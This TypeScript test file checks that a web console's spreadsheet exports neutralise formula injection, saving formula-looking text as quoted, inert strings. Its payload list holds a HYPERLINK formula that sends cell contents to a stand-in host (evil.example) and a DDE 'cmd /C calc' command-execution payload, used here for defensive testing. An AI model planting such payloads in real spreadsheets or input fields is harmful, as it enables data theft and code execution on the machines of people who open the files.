import ExcelJS from 'exceljs';
import { eq, sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { newUser } from '../modules/users/system-fixtures.ts';
import { orders as orderTable } from '../db/schema/order.ts';
import { users } from '../db/schema/users.ts';
import { deliveries, orderSplits } from '../db/schema/wms.ts';
import { semiannualReturns } from '../db/schema/semiannual-return.ts';
import { orderFixtures } from '../modules/order/order.fixtures.ts';
import { shopFixtures } from '../modules/shop/shop.fixtures.ts';
import { wmsFixtures } from '../modules/wms/wms.fixtures.ts';
import { productFixtures } from '../modules/products/products.fixtures.ts';
import { exportPages } from '../shared/export-registry.ts';
import { employeeBody } from '../modules/employee/employee.fixtures.ts';
import { signedInTestApp } from '../test/build-app.ts';
import { exportedSheet } from '../test/export-file.ts';

/**
 * Spreadsheet formula injection, for every registered export: text that a spreadsheet would run as a
 * formula (`= + - @`, tab, carriage return) is put where each export shows it — through the console's own
 * calls, and through what an attacker who is not even signed in controls (the account name and browser
 * of a failed sign-in, which the sign-in log exports). Every file must hold it as inert text.
 * A new export source fails this test until a line here puts hostile text into it.
 */

const PAYLOADS = {
  loginId: '=HYPERLINK("http://evil.example/?"&A1,"详情")',
  userAgent: "=cmd|' /C calc'!A0",
  operator: '=2+2',
  user: '+SUM(1,2)',
  article: '@SUM(1+1)*cmd',
  warehouse: '-2+3+cmd',
  reason: '=1+1',
  shop: '\t=1+1',
  order: '=SUM(A1:A9)',
  employee: '+1+cmd',
  sp: '@SUM(9)',
  plan: '=3+3',
  promo: '=4+4',
  datax: '=5+5',
  sku: '=6+6',
};
const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Shanghai' }).format(new Date());
/** Exports whose list needs a filter to show anything (the sales report: a period and a dimension; the auto-allocation preview: its plan, set once seeded). */
const QUERIES: Record<string, Record<string, unknown>> = { spDataReport: { dimension: 'sp', startDate: today, endDate: today } };
/** Exports that hold only codes (letters, digits, _ and -, never first) and numbers: no text can reach them. */
const CODES_ONLY = new Set(['invReport']);
/** Exports whose text is the system's own (file names made of fixed list labels, status labels): no user text reaches them. */
const SYSTEM_TEXT_ONLY = new Set(['exportTask', 'reportFile']);

const { t, token: admin } = await signedInTestApp();

async function seedHostileText() {
  const ok = async (path: string, body: object) => {
    const res = await t.post(path, body, { token: admin });
    if (res.body.code !== 200) throw new Error(`${path}: ${res.body.message}`);
    return res.body.data;
  };
  await t.app.inject({
    method: 'POST',
    url: '/api/user/login',
    payload: { loginId: PAYLOADS.loginId, password: 'whatever-guess' },
    headers: { 'user-agent': PAYLOADS.userAgent },
  });
  // Every write below is logged under this operator name (the operation log export).
  await t.db.update(users).set({ name: PAYLOADS.operator }).where(eq(users.loginId, 'admin'));
  await ok('/user/insert', newUser({ name: PAYLOADS.user, loginId: 'formula1' }));
  await ok('/content/category/add', { name: '分类', typeCode: 'F1', describe: '描述', status: 1 });
  await ok('/content/article/add', {
    title: PAYLOADS.article,
    typeCode: 'F1',
    retGradeList: 'A',
    describe: 'd',
    status: 1,
    content: '<p>x</p>',
  });
  const wms = wmsFixtures(t, () => admin);
  await wms.seedChannels();
  const { warehouseCode } = await wms.warehouse({ warehouseName: PAYLOADS.warehouse });
  // The hostile warehouse serves a channel (the channel export names the warehouse).
  await ok('/wms/channel/batchUpdateChannel', { warehouseCode, channels: [{ channelCode: 'C03', priority: 1 }] });
  const sku = await wms.stock(warehouseCode, 10);
  const inv = await wms.inv(warehouseCode, sku);
  await ok('/wms/inv/adjust', { id: inv.id, delta: 1, reason: PAYLOADS.reason });
  const shops = shopFixtures(t, () => admin);
  const sp = await shops.sp({ spName: PAYLOADS.sp });
  const { retCode } = await shops.shop({ spCode: sp.spCode, retName: PAYLOADS.shop });
  // A telesales order (both order exports) of that shop, with a remark of its own.
  const orders = orderFixtures(t, () => admin);
  await orders.setup();
  const { code } = await orders.sku(10);
  const order = await orders.order(retCode, [{ skuCode: code, quantity: 1 }], { remark: PAYLOADS.order });
  // Approved: it is pushed to the ERP (the push list shows the shop's name) and a sale of that SP (the sales report's export).
  await t.post('/order/opt/approve', {}, { token: admin, query: { id: order.id } });
  await ok('/employee/add', employeeBody(sp.spCode, { name: PAYLOADS.employee }));
  // A coupon of that shop (its name in the coupon export) and a payment of that order through a channel whose
  // code starts with '-' (the payment records export).
  const template = await ok('/coupon/template/add', { name: '券', type: 1, amountOff: 100, validDays: 7, total: 5 });
  await ok('/coupon/issue', { templateId: template.id, retCodes: [retCode] });
  await ok('/pay/channel/add', { channelCode: '-PAY1', name: '渠道', type: 1, apiKey: 'sheet-secret-key' });
  await ok('/pay/record/add', { orderNo: order.orderNo, channelCode: '-PAY1' });
  // A shipped order of that shop claimed back (the after-sale export names the shop).
  const shipped = await orders.order(retCode, [{ skuCode: code, quantity: 1 }]);
  await t.db.update(orderTable).set({ status: 40 }).where(eq(orderTable.id, shipped.id));
  await ok('/order/afterSale/add', { orderId: shipped.id, type: 1, reason: PAYLOADS.reason, lines: [{ skuCode: code, quantity: 1 }] });
  // A gift order of that shop (the gift-order export names the shop).
  await ok('/gift/order/budget/update', { retCode, monthlyBudget: 100_000 });
  await ok('/gift/order/add', { retCode, lines: [{ skuCode: code, quantity: 1 }] });
  // A sell-in order of that SP (the sell-in order export names the SP).
  await ok('/ord/sallinOrder/add', { spCode: sp.spCode, warehouseCode, lines: [{ skuCode: code, quantity: 1 }] });
  // A transfer out of the hostile warehouse, a sell-in of that SP to that shop, and a quota plan.
  const other = await wms.warehouse();
  await ok('/stock/transfer/add', {
    fromWarehouseCode: warehouseCode,
    toWarehouseCode: other.warehouseCode,
    remark: PAYLOADS.reason,
    lines: [{ skuCode: sku, quantity: 1 }],
  });
  // A delivery note of the approved order out of the hostile warehouse (the delivery export shows its name).
  await t.db.insert(deliveries).values({ deliverNo: 'DN-FORMULA', orderNo: order.orderNo, warehouseCode, createdBy: PAYLOADS.operator });
  // A split line of that order into the hostile warehouse (the order split export names it).
  await t.db.insert(orderSplits).values({ orderNo: order.orderNo, warehouseCode, skuCode: code, quantity: 1 });
  // A purchase order of a formula-named supplier into the hostile warehouse (the purchase order export).
  await ok('/wms/purchaseOrder/add', { warehouseCode, supplierName: PAYLOADS.reason, lines: [{ skuCode: sku, quantity: 1 }] });
  // A half-year return of the formula-named shop with a formula-looking reason (the half-year return export).
  await t.db
    .insert(semiannualReturns)
    .values({ returnNo: 'SR-FORMULA', retCode, period: '2026H2', warehouseCode, amount: 100, reason: PAYLOADS.reason });
  await ok('/stock/sellin/add', { spCode: sp.spCode, retCode, skuCode: code, quantity: 1, saleDate: today });
  const plan = await ok('/alloc/plan/add', {
    planName: PAYLOADS.plan,
    skuCode: code,
    dimension: 1,
    periodStart: today,
    periodEnd: today,
    total: 5,
  });
  // The auto-allocation preview of that plan shares it over the formula-named shop (its export names the shop).
  QUERIES.autoAlloc = { planId: plan.id, days: 30 };
  // A partner's answer reaches a sync record's error as text (the sync writes it, no call of the console does).
  for (const partner of ['hipac', 'fsct', 'dcc', 'yuou'])
    await t.db.execute(
      sql`insert into partner_sync (partner, kind, status, attempts, last_error, operator) values (${partner}, 'orders', 3, 1, ${PAYLOADS.reason}, ${PAYLOADS.operator})`,
    );
  // A sync task named like a formula (issue 30).
  await ok('/datax/task/add', {
    name: PAYLOADS.datax,
    tables: [{ source: 'shop_info', target: 'datax_x.shop_info', mode: 'full', keyColumns: ['id'] }],
  });
  // A set meal and a special activity named like a formula (issue 29).
  const promoLines = { skuCode: code, quantity: 1 };
  await ok('/setMeal/add', {
    name: PAYLOADS.promo,
    lines: [promoLines],
    packagePrice: 100,
    validFrom: today,
    validTo: today,
    perShopQuota: 1,
  });
  await ok('/equity/activity/add', {
    name: PAYLOADS.promo,
    gradeCodes: ['A'],
    periodStart: today,
    periodEnd: today,
    templateId: template.id,
  });
  await ok('/lottery/activity/add', {
    name: PAYLOADS.promo,
    startTime: today,
    endTime: today,
    drawsPerShopPerDay: 1,
    prizes: [{ name: '奖', kind: 3, probability: 10, stock: 1 }],
  });
  // A draw of the hostile shop, whose record's result is a prize named like a formula.
  const running = await ok('/lottery/activity/add', {
    name: PAYLOADS.promo,
    startTime: '2020-01-01',
    endTime: '2099-12-31',
    drawsPerShopPerDay: 1,
    prizes: [{ name: PAYLOADS.promo, kind: 3, probability: 1000, stock: 1 }],
  });
  await ok('/lottery/activity/draw', { activityId: running.id, retCode });
  await ok('/activity/special/add', {
    name: PAYLOADS.promo,
    startTime: today,
    endTime: today,
    lines: [{ skuCode: code, specialPrice: 1 }],
  });
  // A SKU named like a formula (the SKU export, issue 30) and the catalogue lists that name it or are named so
  // (their exports come by default from their declarations).
  const px = productFixtures(t, () => admin);
  const skuCode = px.uid('FS');
  const skuId = await px.sku({ code: skuCode, name: PAYLOADS.sku });
  await px.brand({ name: PAYLOADS.sku });
  await px.category({ name: PAYLOADS.sku });
  await px.add('/product/property', { code: px.uid('P'), name: PAYLOADS.sku, values: [PAYLOADS.sku] });
  await px.spu({ name: PAYLOADS.sku });
  await px.add('/product/sku/platform', { skuId, platformCode: '0004' });
  await px.add('/product/sku/price', { skuId, platformCode: '0004', price: 100, validFrom: today, validTo: today });
  await px.add('/product/label', { code: px.uid('L'), name: PAYLOADS.sku });
  await px.add('/product/group', { code: px.uid('G'), name: PAYLOADS.sku, skuIds: [skuId] });
  const ruleId = await px.rule({ skuId });
  await px.add('/product/sku/ruleConfig', { ruleId, scopeType: 99 });
  const discount = { code: px.uid('D'), name: PAYLOADS.promo, skuId, minQty: 10, discountRate: 95, validFrom: today, validTo: today };
  await px.add('/product/sku/discount', discount);
  await ok('/stock/mapping/add', { source: 'HIPAC', externalCode: 'FORMULA1', skuCode });
  await ok('/stock/openingInventory/add', { spCode: sp.spCode, skuCode, quantity: 5, stockDate: today });
  await ok('/invoice/info/add', { retCode, titleType: 2, title: PAYLOADS.shop });
  await ok('/risk/grade/add', { gradeCode: 'FX1', gradeName: PAYLOADS.plan, minScore: 99, maxScore: 99, action: 2 });
  // The base dictionaries and message templates (exported from their declarations).
  for (const dict of ['sysPlatform', 'userType', 'retailerType']) await ok(`/base/${dict}/add`, { code: px.uid('X'), name: PAYLOADS.sku });
  await ok('/base/template/add', { code: px.uid('T'), name: PAYLOADS.promo, content: PAYLOADS.reason });
  await ok('/roles/add', { roleName: PAYLOADS.plan, remark: '' });
  await ok('/department/add', { depName: PAYLOADS.plan, parentCode: '-1', sort: 0, status: 1 });
  const menu = { parent: '-1', mType: '0', showIndex: '99', status: '1', url: '/formulaMenu', visible: '0', icon: 'AppstoreOutlined' };
  await ok('/menu/add', { ...menu, label: PAYLOADS.plan });
  await ok('/schedule/job/save', { jobName: PAYLOADS.operator, handler: 'jobLog.purge', cron: '0 3 * * *', params: {}, remark: '' });
  await ok('/wms/return/province/add', {
    provinceCode: '330000',
    warehouseCode,
    reason: PAYLOADS.reason,
    lines: [{ skuCode: sku, quantity: 1 }],
  });
  // The shop-side lists (s14-exb): dictionaries named like a formula.
  await ok('/base/spGroup/add', { code: 'FXSG1', name: PAYLOADS.sp });
  await ok('/base/gradeInfo/add', { code: 'FXGR1', name: PAYLOADS.sp });
  // The formula-named SP serves a district and is its main SP (both lists name the SP).
  await ok('/shop/spArea/add', { spCode: sp.spCode, districtCodes: ['330106'] });
  await ok('/shop/areaMainSp/updateArea', { spCode: sp.spCode, districtCodes: ['330106'] });
  // The formula-named shop's service rows (each list names the shop), and a setting whose value looks like one.
  await ok('/shop/cs/add', { retCode, csType: 1, content: PAYLOADS.reason });
  await ok('/shop/retWorkOrder/add', { retCode, title: PAYLOADS.reason, content: PAYLOADS.reason });
  await ok('/shop/wall/balance/recharge', { retCode, amount: 100, reason: PAYLOADS.reason });
  await ok('/shop/app/setting/add', { key: 'formula.key', value: PAYLOADS.reason });
}

async function exported(page: string) {
  const { workbook: wb } = await exportedSheet(t, admin, page, QUERIES[page] ?? {});
  const cells: ExcelJS.Cell[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => cells.push(c))));
  return cells;
}

describe('spreadsheet formula injection', () => {
  it('every export holds formula-looking text as inert, quoted text', async () => {
    await seedHostileText();
    const pages = exportPages();
    expect(pages.length).toBeGreaterThanOrEqual(7);
    const wrong: string[] = [];
    for (const page of pages) {
      const cells = await exported(page);
      const live = cells.filter(
        (c) => c.type === ExcelJS.ValueType.Formula || (typeof c.value === 'string' && /^[=+\-@\t\r]/.test(c.value)),
      );
      for (const c of live) wrong.push(`${page} ${c.address}: ${JSON.stringify(c.value)}`);
      const quoted = cells.filter((c) => typeof c.value === 'string' && /^'[=+\-@\t\r]/.test(c.value));
      if (!quoted.length && !CODES_ONLY.has(page) && !SYSTEM_TEXT_ONLY.has(page))
        wrong.push(`${page}: no hostile text reached this export (add a line to seedHostileText)`);
    }
    expect(wrong).toEqual([]);
  }, 120_000);
});
